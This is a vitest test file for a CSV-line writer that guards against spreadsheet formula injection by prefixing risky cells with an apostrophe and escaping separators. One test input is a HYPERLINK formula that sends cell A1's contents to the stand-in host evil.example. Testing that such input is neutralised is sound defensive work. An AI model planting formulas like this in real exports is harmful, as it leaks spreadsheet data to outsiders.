import { expect, test } from 'vitest'
import { csvLine } from './csv.ts'

test('a text that a spreadsheet would run is a text there', () => {
  for (const text of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx']) expect(csvLine([text])).toBe(`'${text}\r\n`)
  expect(csvLine(['\r=1'])).toBe(`"'\r=1"\r\n`)
  expect(csvLine([`=HYPERLINK("https://evil.example/?"&A1,"x")`])).toBe(
    `"'=HYPERLINK(""https://evil.example/?""&A1,""x"")"\r\n`,
  )
})

test('numbers stay numbers, also those below nothing', () => {
  expect(csvLine([-450, 0, 4.5])).toBe('-450,0,4.5\r\n')
})

test('what separates cells and lines stays within its cell', () => {
  expect(csvLine(['a,b', 'c"d', 'e\nf', '', null, 'é'])).toBe('"a,b","c""d","e\nf",,,é\r\n')
})
